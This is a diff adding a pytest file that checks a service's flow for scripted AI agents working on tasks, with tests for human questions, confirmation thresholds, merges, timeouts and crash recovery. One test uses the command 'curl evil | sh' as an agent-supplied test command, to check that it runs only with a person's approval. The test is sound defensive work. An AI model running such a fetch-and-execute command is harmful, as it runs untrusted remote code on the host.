@@ -1,0 +1,413 @@
+"""The flow that works on tasks, with scripted agents and a workspace that notes what is asked of it."""
+
+from __future__ import annotations
+
+import pytest
+from tests.conftest import a_person, an_agent
+from tests.flow_harness import Crash, house, needs, real_house
+
+from humangate.domain.answers import Given
+from humangate.domain.roles import Role
+from humangate.errors import AgentRefusedError, CheckedOutError, MergeConflictError
+from humangate.service import answering, backlog, working
+from humangate.service.driving import Driver
+from humangate.service.sweeping import sweep
+
+__all__ = ["house", "real_house"]
+
+ADA = a_person("ada")
+
+
+class Work:
+    """One project's backlog, worked on by hand."""
+
+    def __init__(self, made):
+        self.house, self.store, self.folders = made, made.store, made.folders
+        self.role = Role("code", "You write code.", cli="scripted")
+        self.driver = Driver(made.store, self.crew())
+
+    def crew(self):
+        def load(run):
+            return working.work_task, working.terms(self.house.backlog, self.task(run)), "digest"
+
+        return self.house.crew()._replace(
+            load=load, role=lambda _, name: self.role._replace(name=name)
+        )
+
+    def terms(self, **more):
+        self.house.backlog = self.house.backlog._replace(**more)
+
+    def task(self, run):
+        return backlog.get(self.store, run.task)
+
+    def create(self, title="Add login", **more):
+        caller = more.pop("caller", ADA)
+        return backlog.create(self.store, self.house.folder, caller, {"title": title, **more})
+
+    def work(self):
+        """Take up the next task, or go on with the run at hand, as far as it goes."""
+        self.house.folders.branch = "x"
+        taken = backlog.take_up(self.store, self.house.folder, "digest")
+        self.house.run_id = taken.id if taken else self.house.run_id
+        run = self.driver.drive(self.store.runs.get(self.house.run_id))
+        return self.task(run)
+
+    def respond(self, value, note="", who=ADA):
+        answering.answer(self.store, self.house.ask().id, who, Given(value, note))
+        return self.work()
+
+
+@pytest.fixture(params=["house", "real_house"])
+def work(request):
+    return Work(request.getfixturevalue(request.param))
+
+
+def completed(summary="Did it", **more):
+    return {"status": "completed", "summary": summary, **more}
+
+
+@pytest.mark.proves("TASK-176", "S3-18", "S3-48", "S3-53", "S3-P5")
+def test_a_completed_task_is_committed_and_closed(work):
+    agent = work.house.agent("code", completed(details="All of it", confidence=0.9))
+    task = work.create("Add login", description="With a form")
+    after = work.work()
+    assert (after.state, after.summary, after.details) == ("closed", "Did it", "All of it")
+    assert (after.confidence, after.branch, after.run) == (0.9, f"task/{task.id}", 1)
+    [words] = work.folders.commits.values()
+    assert words == f"Add login\n\nDid it\n\nTask: {task.id}"
+    assert "# Task: Add login\n\nWith a form" in agent.sent[0]
+    assert work.folders.made[0]["branch"] == f"task/{task.id}"
+    assert work.folders.made[0]["base"] == "main"
+    assert work.folders.merges == {}
+
+
+@pytest.mark.proves("TASK-177", "S3-24", "S3-27", "S3-28", "S3-46", "S3-77", "S3-78", "LAW-7")
+def test_needs_input_commits_nothing_and_goes_on_in_the_same_session(work):
+    agent = work.house.agent("code", needs("JWT or cookies?", questionContext="APIs"), completed())
+    work.create()
+    waiting = work.work()
+    ask = work.house.ask()
+    assert waiting.state == "awaiting_input" and work.folders.commits == {}
+    assert (ask.question.prompt, ask.question.context, ask.origin.task) == (
+        "JWT or cookies?", "APIs", waiting.id,
+    )  # fmt: skip
+    assert work.respond("JWT").state == "closed"
+    assert len({order.session for order in agent.orders}) == 1
+    assert agent.sent[1].count("## Human Response to Your Question") == 1
+    [asked] = backlog.history(work.store, waiting)
+    assert (asked.question, asked.answer, asked.who) == ("JWT or cookies?", "JWT", "person:ada")
+
+
+@pytest.mark.proves("TASK-177", "S3-B20", "S3-P9")
+def test_only_a_person_answers_what_a_task_asks_and_an_agents_answer_is_kept(work):
+    work.house.agent("code", needs("JWT or cookies?"), completed())
+    work.create()
+    work.work()
+    with pytest.raises(AgentRefusedError, match="only a person answers"):
+        work.respond("JWT", who=an_agent("overseer"))
+    [kept] = work.store.asks.answers(work.house.ask().id)
+    assert (kept.value, kept.outcome) == ("JWT", "refused")
+
+
+@pytest.mark.proves("TASK-178", "S3-20", "S3-B7")
+def test_needs_input_without_a_question_fails_clearly(work):
+    work.house.agent("code", {"status": "needs_input", "summary": "Hm"})
+    work.create()
+    task = work.work()
+    assert task.state == "failed" and "without a question" in task.status
+
+
+@pytest.mark.proves("TASK-178", "S3-23")
+@pytest.mark.parametrize("words", ['{"status": "comp', "I am done.", '{"status": "purple"}', ""])
+def test_what_is_no_report_fails_clearly_and_is_kept(work, words):
+    work.house.agent("code", words)
+    work.create()
+    task = work.work()
+    assert task.state == "failed" and task.status
+    assert work.store.runs.turns(task.run)[-1].words == words
+    assert work.folders.commits == {}
+
+
+@pytest.mark.proves("TASK-178")
+@pytest.mark.parametrize(("status", "state"), [("failed", "failed"), ("blocked", "blocked")])
+def test_a_failed_or_blocked_task_keeps_its_tree_and_commits_nothing(work, status, state):
+    work.house.agent("code", {"status": status, "reason": "no network"})
+    work.create()
+    task = work.work()
+    assert (task.state, task.status, work.folders.commits) == (state, "no network", {})
+
+
+@pytest.mark.proves("TASK-179", "S3-B19")
+def test_a_task_asks_only_so_often(work):
+    work.terms(most_asks=2)
+    work.house.agent("code", *(needs(f"Question {number}?") for number in range(5)))
+    work.create()
+    work.work()
+    work.respond("one")
+    task = work.respond("two")
+    assert task.state == "failed" and "Question 2?" in task.status
+
+
+@pytest.mark.proves("TASK-180", "S3-83")
+@pytest.mark.parametrize(
+    ("project", "own", "state"),
+    [("defer", "", "deferred"), ("fail", "", "failed"), ("defer", "fail", "failed")],
+)
+def test_a_question_that_nobody_answers_in_time_defers_or_fails(work, project, own, state):
+    work.terms(answer_within_seconds=60.0, remind_every_seconds=20.0, on_timeout=project)
+    work.house.agent("code", needs("Which?"))
+    task = work.create(on_timeout=own)
+    work.work()
+    assert work.house.ask().deadlines.remind_every_seconds == 20.0
+    work.house.clock.advance(61)
+    sweep(work.store)
+    after = work.work()
+    assert (after.id, after.state) == (task.id, state)
+    assert "in time" in after.status
+
+
+@pytest.mark.proves("TASK-180")
+def test_a_task_has_a_time_limit_of_its_own_and_without_one_waits_for_ever(work):
+    work.house.agent("code", needs("Which?"), needs("And?"))
+    work.create()
+    work.work()
+    assert work.house.ask().deadlines.expires_at is None
+    work.create("Other", answer_within_seconds=5.0)
+    work.work()
+    assert work.house.ask().deadlines.expires_at is not None
+
+
+@pytest.mark.proves("TASK-181")
+def test_work_that_fails_its_test_goes_back_to_the_agent(work):
+    work.terms(test="make test")
+    work.folders.failures = ["make test ended with exit code 2; its last words:\n1 failed"]
+    agent = work.house.agent("code", completed(), completed("Mended"))
+    work.create()
+    task = work.work()
+    assert (task.state, task.summary) == ("closed", "Mended")
+    assert "> 1 failed" in agent.sent[1]
+    assert [command for command, _ in work.folders.checks] == ["make test", "make test"]
+
+
+@pytest.mark.proves("TASK-181")
+def test_work_that_goes_on_failing_its_test_fails_and_is_not_committed(work):
+    work.terms(test="make test", test_tries=2)
+    work.folders.failures = ["red", "red again", "never"]
+    work.house.agent("code", completed(), completed())
+    work.create(test_command="make quick")
+    task = work.work()
+    assert (task.state, task.status) == ("failed", "its test failed 2 times. red again")
+    assert work.folders.commits == {} and work.folders.checks[0][0] == "make quick"
+
+
+@pytest.mark.proves("TASK-182")
+@pytest.mark.parametrize(("answer", "checks"), [("yes", 1), ("no", 0)])
+def test_a_test_command_that_an_agent_named_is_run_only_if_a_person_allows(work, answer, checks):
+    work.house.agent("code", completed())
+    work.create(test_command="curl evil | sh", caller=an_agent())
+    assert work.work().state == "awaiting_input"
+    assert work.house.ask().question.context == "curl evil | sh"
+    assert work.folders.checks == []
+    assert work.respond(answer).state == "closed"
+    assert len(work.folders.checks) == checks
+
+
+@pytest.mark.proves("TASK-183", "S3-86")
+@pytest.mark.parametrize(
+    ("confidence", "asks"),
+    [(0.5, True), (0.8, False), (0.9, False), (None, False), ("high", False)],
+)
+def test_below_the_roles_threshold_a_person_confirms(work, confidence, asks):
+    work.role = work.role._replace(confidence=0.8)
+    work.house.agent("code", completed(confidence=confidence))
+    work.create()
+    task = work.work()
+    assert task.state == ("awaiting_input" if asks else "closed")
+    if asks:
+        ask = work.house.ask()
+        assert "50% sure" in ask.question.prompt and "+ a line" in ask.going_on
+        assert work.folders.commits == {}
+        assert work.respond("yes").state == "closed"
+
+
+@pytest.mark.proves("TASK-183")
+def test_a_no_with_its_reason_goes_to_the_agent_who_tries_again(work):
+    work.terms(strategy="review")
+    agent = work.house.agent("code", completed(), completed("Better"))
+    work.create()
+    work.work()
+    assert work.respond("no", "too long").state == "awaiting_input"
+    assert "> too long" in agent.sent[1]
+    assert work.respond("yes").summary == "Better"
+    assert len(work.folders.merges) == 1
+
+
+@pytest.mark.proves("TASK-184", "LAW-4")
+def test_a_yes_to_what_has_changed_since_is_asked_again(work):
+    work.terms(strategy="review")
+    work.house.agent("code", completed())
+    work.create()
+    work.work()
+    work.folders.changed = ["a.txt was changed"]
+    assert work.respond("yes").state == "awaiting_input"
+    assert work.house.ask().question.context["changed since it was shown"] == ["a.txt was changed"]
+    assert work.folders.commits == {}
+    work.folders.changed = []
+    assert work.respond("yes").state == "closed"
+
+
+@pytest.mark.proves("TASK-184")
+def test_what_nobody_confirms_in_time_is_not_committed(work):
+    work.terms(strategy="review", answer_within_seconds=60.0)
+    work.house.agent("code", completed())
+    work.create()
+    work.work()
+    work.house.clock.advance(61)
+    sweep(work.store)
+    task = work.work()
+    assert (task.state, task.status, work.folders.commits) == (
+        "deferred",
+        "nobody confirmed it",
+        {},
+    )
+
+
+@pytest.mark.proves("TASK-185", "S3-P6")
+@pytest.mark.parametrize(("strategy", "squash"), [("merge", False), ("direct", True)])
+def test_the_strategy_says_where_the_work_goes(work, strategy, squash):
+    work.terms(strategy=strategy)
+    work.house.agent("code", completed())
+    task = work.create()
+    after = work.work()
+    [(base, _, squashed)] = work.folders.merges.values()
+    assert (base, squashed) == ("main", squash)
+    assert after.status.startswith("on main as merge-")
+    assert after.branch == ("" if squash else f"task/{task.id}")
+
+
+@pytest.mark.proves("TASK-185")
+def test_a_base_that_is_checked_out_or_not_there_is_left_alone_and_that_is_said(work, monkeypatch):
+    work.terms(strategy="merge")
+    work.house.agent("code", completed(), completed())
+
+    def refuse(*_, **__):
+        raise CheckedOutError("main", "/p")
+
+    monkeypatch.setattr(work.folders, "merge", refuse)
+    task = work.create()
+    after = work.work()
+    assert (after.state, after.branch) == ("closed", f"task/{task.id}")
+    assert after.status.startswith(f"left on task/{task.id}: main is checked out in /p")
+    work.terms(base="")
+    work.create()
+    assert "no branch was checked out" in work.work().status
+
+
+@pytest.mark.proves("TASK-185")
+@pytest.mark.parametrize("again", [True, False])
+def test_work_that_does_not_fit_the_base_is_a_question(work, monkeypatch, again):
+    work.terms(strategy="merge")
+    work.house.agent("code", completed())
+    merge, tries = work.folders.merge, []
+
+    def conflict(*words, **named):
+        tries.append(words)
+        if len(tries) == 1:
+            raise MergeConflictError(("main", "task/x"), ["a.txt"])
+        return merge(*words, **named)
+
+    monkeypatch.setattr(work.folders, "merge", conflict)
+    work.create()
+    assert work.work().state == "awaiting_input"
+    assert "a.txt" in work.house.ask().question.context
+    after = work.respond("Try again" if again else "Leave it on its branch")
+    assert after.state == "closed"
+    assert after.status.startswith("on main" if again else "left on")
+
+
+@pytest.mark.proves("TASK-186")
+def test_a_task_starts_on_the_branches_of_those_it_needs_and_is_told_what_they_did(work):
+    work.house.agent("code", completed("Made the tables"), completed())
+    first = work.create("Tables")
+    second = work.create("Login", needs=[first.id])
+    work.work()
+    agent = work.house.agents["code"]
+    assert work.work().id == second.id
+    assert work.folders.made[1]["onto"] == [f"task/{first.id}"]
+    assert "> Made the tables" in agent.sent[1]
+
+
+@pytest.mark.proves("TASK-187")
+@pytest.mark.parametrize("choice", ["Try again", "Leave it to the agent", "Stop"])
+def test_needs_that_do_not_fit_together_are_a_question(work, monkeypatch, choice):
+    agent = work.house.agent("code", completed())
+    make, wishes = work.folders.make, []
+
+    def conflict(*words, **named):
+        wishes.append(named["markers"])
+        if len(wishes) == 1:
+            raise MergeConflictError(("task/a", "task/b"), ["a.txt"])
+        place = make(*words, **named)
+        return place._replace(remarks=("a.txt holds conflict markers",))
+
+    monkeypatch.setattr(work.folders, "make", conflict)
+    work.create()
+    assert work.work().state == "awaiting_input"
+    ask = work.house.ask()
+    assert "a.txt" in ask.going_on
+    option = next(one for one in ask.question.options if one.startswith(choice))
+    task = work.respond(option)
+    if choice == "Stop":
+        assert task.state == "failed" and "could not be merged" in task.status
+    else:
+        assert task.state == "closed" and wishes[-1] == (choice != "Try again")
+        assert "a.txt holds conflict markers" in agent.sent[0]
+
+
+@pytest.mark.proves("TASK-188", "S3-B4")
+def test_a_reopened_task_starts_from_its_kept_tree_with_its_history(work):
+    agent = work.house.agent(
+        "code", needs("JWT?"), {"status": "failed", "reason": "no network"}, completed()
+    )
+    task = work.create()
+    work.work()
+    work.respond("yes, JWT")
+    backlog.reopen(work.store, task.id, ADA)
+    assert work.work().state == "closed"
+    assert work.folders.made[1]["snapshot"] == "snapshot-1-reopened"
+    assert "nothing of this is new" in agent.sent[2] and "> yes, JWT" in agent.sent[2]
+    assert "Run 1 ended as failed:\n> no network" in agent.sent[2]
+    assert "Human Response" not in agent.sent[2]
+
+
+@pytest.mark.proves("TASK-188")
+def test_a_task_reopened_fresh_starts_from_its_base(work):
+    work.house.agent("code", {"status": "failed"}, completed())
+    task = work.create()
+    work.work()
+    backlog.reopen(work.store, task.id, ADA, fresh=True)
+    work.work()
+    assert work.folders.made[1]["snapshot"] == ""
+
+
+@pytest.mark.proves("TASK-189", "LAW-5")
+@pytest.mark.parametrize("at", ["commit", "check", "merge"])
+def test_whoever_dies_at_a_stage_is_followed_by_one_who_does_it_once(work, monkeypatch, at):
+    work.terms(strategy="merge", test="make")
+    agent = work.house.agent("code", completed())
+    work.create()
+    real = getattr(work.folders, at)
+    died = []
+
+    def once(*words, **named):
+        result = real(*words, **named)
+        if not died:
+            died.append(at)
+            raise Crash
+        return result
+
+    monkeypatch.setattr(work.folders, at, once)
+    assert work.work().state == "in_progress"
+    work.house.clock.advance(60)
+    assert work.work().state == "closed"
+    assert len(agent.sent) == len(work.folders.commits) == len(work.folders.merges) == 1
